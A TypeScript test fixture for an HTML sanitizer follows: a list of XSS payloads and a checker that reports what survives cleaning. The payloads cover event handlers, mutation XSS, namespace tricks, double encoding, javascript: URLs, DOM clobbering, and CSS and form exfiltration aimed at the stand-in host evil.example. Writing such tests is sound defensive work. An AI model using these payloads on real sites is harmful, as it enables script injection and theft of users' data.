/** A host that the app must never link to or call. */
const evil = 'https://evil.example';

/**
 * Texts that try to attack the page: scripts, mutation after cleaning, namespaces, double decoding, addresses,
 * styles, clobbered names. A successful one sets `window.__xss` or names evil.example.
 */
export const hostileTexts: readonly string[] = [
  // Handlers that run without the user.
  '<img src=x onerror=window.__xss=1>',
  '<img/src/onerror=window.__xss=1>',
  '<svg/onload=window.__xss=1>',
  '<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:window.__xss=1 onend=window.__xss=1>',
  '<body onload=window.__xss=1><p>corps</p></body>',
  '<input autofocus onfocus=window.__xss=1>',
  '<details open ontoggle=window.__xss=1><summary>ouvert</summary></details>',
  '<video><source onerror=window.__xss=1></video><audio src=x onerror=window.__xss=1>',
  '<marquee onstart=window.__xss=1>mots</marquee>',
  '<p style="animation:x 1s" onanimationstart=window.__xss=1>mots</p><style>@keyframes x{}</style>',
  '<p popover id=x onbeforetoggle=window.__xss=1>x</p><button popovertarget=x>ouvrir</button>',
  '<p tabindex=1 id=x onfocus=window.__xss=1 contenteditable autofocus>mots</p>',
  '<p onpointerrawupdate=window.__xss=1 ONCLICK="window.__xss=1" oNmOuSeOvEr=\'window.__xss=1\'>mots</p>',
  // Scripts.
  '<script>window.__xss=1</script>',
  '<scr<script>ipt>window.__xss=1</scr</script>ipt>',
  '<script\u0000>window.__xss=1</script>',
  '<script type=module src="data:text/javascript,window.__xss=1"></script>',
  `<script src=//evil.example/x.js></script><link rel=modulepreload href=${evil}/x.js>`,
  // Differences between parsers (mXSS).
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__xss=1&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__xss=1>">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=window.__xss=1 src>">',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<textarea><p title="</textarea><img src=x onerror=window.__xss=1>">',
  '<xmp><p title="</xmp><img src=x onerror=window.__xss=1>">',
  '<title><p title="</title><img src=x onerror=window.__xss=1>">',
  '<iframe><p title="</iframe><img src=x onerror=window.__xss=1>"></iframe>',
  '<template><script>window.__xss=1</script></template><template shadowrootmode=open><slot onslotchange=window.__xss=1>',
  '<!--><img src=x onerror=window.__xss=1>--><![CDATA[<img src=x onerror=window.__xss=1>]]>',
  '<?xml version="1.0"?><x xmlns="http://www.w3.org/1999/xhtml"><script>window.__xss=1</script></x>',
  '<table><td><select><option><style></select><img src=x onerror=window.__xss=1></style>',
  `${'<div>'.repeat(600)}<img src=x onerror=window.__xss=1>`,
  // Other namespaces.
  '<svg><foreignObject><body onload=window.__xss=1></foreignObject></svg>',
  '<svg><a xlink:href="javascript:window.__xss=1"><text y=20>lien</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=window.__xss=1></svg>#x"></svg>',
  `<svg><image href="${evil}/a.png"/><feImage href="${evil}/b.png"/></svg>`,
  '<math href="javascript:window.__xss=1"><maction actiontype="statusline#x" xlink:href="javascript:window.__xss=1">lien</maction></math>',
  // Double decoding.
  '&lt;img src=x onerror=window.__xss=1&gt;',
  '&amp;lt;img src=x onerror=window.__xss=1&amp;gt;',
  '&#60;script&#62;window.__xss=1&#60;/script&#62;',
  '&#x26;#x3C;svg onload=window.__xss=1&#x26;#x3E;',
  '%3Cimg src=x onerror=window.__xss=1%3E \\u003cimg src=x onerror=window.__xss=1\\u003e',
  // Addresses.
  '<a href="javascript:window.__xss=1">lien</a>',
  '<a href="java&Tab;script&colon;window.__xss=1">lien</a>',
  '<a href="\u0001javascript:window.__xss=1">lien</a>',
  '<a href="&#x6A;&#x61vascript:window.__xss=1" target=_self rel=opener>lien</a>',
  '<a href="data:text/html,<script>opener.__xss=1</script>">lien</a>',
  '<a href="x" ping="https://evil.example/ping" referrerpolicy="unsafe-url" download>lien</a>',
  '<a href="/logout">lien</a><area href="/logout"><a href="/%6cogout/">lien</a>',
  `<img src="${evil}/pixel.gif"><img srcset="${evil}/1.png 1x" sizes=100vw><picture><source srcset=${evil}/2.png></picture>`,
  `<img src="//evil.example/a.png"><img src="/\\evil.example/a.png"><img lowsrc=${evil}/x dynsrc=${evil}/y>`,
  `<video poster="${evil}/p.png"></video><input type=image src=${evil}/i.png><table background=${evil}/t.png><td>x</table>`,
  '<iframe srcdoc="<script>parent.__xss=1</script>"></iframe><object data="javascript:window.__xss=1"></object><embed src="javascript:window.__xss=1">',
  // Forms, bases and refreshes.
  `<form action="${evil}" id=f><input name=password></form><button form=f formaction="javascript:window.__xss=1">ok</button>`,
  `<base href="${evil}/"><a href="/x">lien</a>`,
  `<meta http-equiv=refresh content="0;url=${evil}"><meta http-equiv=Set-Cookie content="a=b">`,
  // Styles that call, cover or measure.
  `<style>input[value^=a]{background:url(${evil}/a)}@import "${evil}/x.css";</style>`,
  `<p style="background:url(${evil}/a);position:fixed;inset:0;z-index:9999">mots</p>`,
  `<link rel=stylesheet href=${evil}/x.css><link rel=prefetch href=${evil}/y><link rel=dns-prefetch href=//evil.example>`,
  // Names that clobber the page’s own.
  '<form id=document><input name=cookie><input name=body></form><a id=location name=href>lien</a>',
  '<img name=getElementById><img id=root><p id=app class="shell dialog" slot=x is=x>mots</p>',
  '<a id=__xss></a><form name=__xss></form><iframe name=__xss></iframe>',
  '<a id=defaultView name=createElement href="x">a</a><input name=attributes><input name=childNodes>',
];

const addressed =
  /^(?:href|src|srcset|action|formaction|poster|data|background|ping|xlink:href|srcdoc|style)$/;
const taken = [
  'document',
  'location',
  '__xss',
  'getElementById',
  'createElement',
  'defaultView',
  'attributes',
  'cookie',
];

/** Effects of hostileTexts under `root`, one line each. Their words alone are harmless. */
export function harmIn(root: ParentNode): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.localName;
    if (/^(?:script|iframe|object|embed|base|meta|template|marquee|area)$/.test(tag)) found.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      const isOut = addressed.test(name) && /evil|javascript:|data:|__xss|inset/i.test(value);
      const isWayOut = name === 'href' && value.includes('logout');
      const isName = (name === 'id' || name === 'name') && taken.includes(value);
      if (name.startsWith('on') || isOut || isWayOut || isName) found.push(`${tag} ${name}=${value}`);
    }
    const rel = element.getAttribute('rel') ?? '';
    if (element.getAttribute('target') === '_blank' && !rel.includes('noopener'))
      found.push(`${tag} rel=${rel}`);
  }
  return found;
}
